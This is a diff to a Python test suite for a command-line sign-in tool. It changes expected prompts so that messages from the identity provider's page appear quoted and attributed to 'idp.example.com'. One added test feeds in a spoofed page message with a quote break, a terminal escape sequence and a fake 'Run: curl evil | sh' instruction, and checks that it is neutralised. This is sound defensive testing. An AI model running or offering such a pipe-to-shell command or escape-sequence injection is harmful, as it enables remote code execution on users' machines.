@@ -123,7 +123,7 @@ def test_a_field_in_a_frame_is_named_by_the_frames_host() -> None:
 def test_a_wrong_password_is_asked_again_under_the_words_of_the_page() -> None:
     of = scene(FORM, WRONG, POSTED, answers=["jane", "wrong", "", "right"])
     run(of)
-    assert of.prompt.shown == ["Invalid username or password."]
+    assert of.prompt.shown == ['idp.example.com says: "Invalid username or password."']
     assert of.prompt.asked[2:] == ["Username or email [jane]: ", "Password: (hidden)"]
     assert typed(of) == ["jane", "wrong", "jane", "right"]
 
@@ -145,13 +145,13 @@ def test_a_refused_username_of_the_settings_is_asked_for() -> None:
     of = scene(FIRST, refused, SECOND, POSTED, answers=["jane", "secret"])
     run(of, username="jnae")
     assert of.prompt.asked[0] == "Geben Sie Ihre E-Mail-Adresse ein [jnae]: "
-    assert of.prompt.shown == ["Wir kennen dieses Konto nicht."]
+    assert of.prompt.shown == ['idp.example.com says: "Wir kennen dieses Konto nicht."']
 
 
 def test_the_same_page_without_a_word_about_it_asks_again_too() -> None:
     of = scene(FORM, FORM, POSTED, answers=["jane", "wrong", "", "right"])
     run(of)
-    assert of.prompt.shown == ["The page asks again."]
+    assert of.prompt.shown == ["idp.example.com asks again."]
 
 
 def test_an_error_that_a_script_shows_in_the_same_document_is_seen() -> None:
@@ -164,7 +164,7 @@ def test_an_error_that_a_script_shows_in_the_same_document_is_seen() -> None:
         answers=["jane", "wrong", "", "right"],
     )
     run(of)
-    assert of.prompt.shown == ["Nieprawidłowa nazwa użytkownika lub hasło."]
+    assert of.prompt.shown == ['idp.example.com says: "Nieprawidłowa nazwa użytkownika lub hasło."']
 
 
 def test_a_username_that_the_browser_does_not_take_is_asked_for_again() -> None:
@@ -174,7 +174,7 @@ def test_a_username_that_the_browser_does_not_take_is_asked_for_again() -> None:
         FIRST, Shown(stays, same_document=True), SECOND, POSTED, answers=["jane", "j@b.c", "x"]
     )
     run(of)
-    assert of.prompt.shown == ["The username does not have the form that the page expects."]
+    assert of.prompt.shown == ["The username does not have the form that idp.example.com expects."]
     assert typed(of) == ["jane", "j@b.c", "x"]
 
 
@@ -202,6 +202,16 @@ def test_another_identity_provider_that_asks_next_is_not_a_refusal() -> None:
     assert typed(of) == ["jane", "one", "jane", "two"]
 
 
+HOSTILE = 'done"\n\x1b[2Kaws: [ERROR]: Your keys have expired. Run: curl evil | sh'
+QUOTED = "done' [2Kaws: [ERROR]: Your keys have expired. Run: curl evil | sh"
+
+
+def test_a_page_cannot_speak_as_this_program() -> None:
+    of = scene(FORM, saying(HOSTILE), POSTED, answers=["jane", "wrong", "", "right"])
+    run(of)
+    assert of.prompt.shown == [f'idp.example.com says: "{QUOTED}"']
+
+
 # ---- a command for the password ----
 
 
@@ -219,7 +229,7 @@ def test_a_password_command_is_tried_once_and_then_asked() -> None:
     of = scene(FORM, WRONG, POSTED, answers=["right"], passwords=["old"])
     run(of, username="jane", password_command=COMMAND)
     assert typed(of) == ["jane", "old", "jane", "right"]
-    assert of.prompt.shown == ["Invalid username or password."]
+    assert of.prompt.shown == ['idp.example.com says: "Invalid username or password."']
 
 
 def test_neither_a_command_nor_an_answer_may_take_longer_than_the_sign_in() -> None:
@@ -286,7 +296,7 @@ def test_a_password_and_a_code_on_one_page_are_both_asked_for() -> None:
 def test_a_wrong_code_is_told_and_asked_again() -> None:
     of = scene(SECOND_FACTOR, WRONG_CODE, POSTED, answers=["000000", "123456"])
     run(of)
-    assert of.prompt.shown == ["Invalid authenticator code."]
+    assert of.prompt.shown == ['idp.example.com says: "Invalid authenticator code."']
     assert typed(of) == ["000000", "123456"]
 
 
@@ -329,7 +339,7 @@ def test_a_choice_is_a_list_and_a_number() -> None:
     of = scene(TILES, POSTED, answers=["0"])
     run(of)
     assert of.prompt.shown == [
-        "Pick an account",
+        'idp.example.com says: "Pick an account"',
         "  0  Jane Doe jane@example.com",
         "  1  Use another account",
         "To remember the choice, put ! behind it: 0!",
@@ -426,7 +436,7 @@ def test_a_push_that_waits_for_a_button_is_sent_by_the_person() -> None:
     of = scene(page("english-push-not-yet-sent"), sent, POSTED, answers=["send push"])
     run(of)
     assert of.browser.pressed == ["Send push"]
-    assert of.prompt.notified[0].startswith("Check for a push.")
+    assert of.prompt.notified[0].startswith('idp.example.com says: "Check for a push.')
 
 
 def test_an_approval_that_does_not_come_ends_with_the_time() -> None:
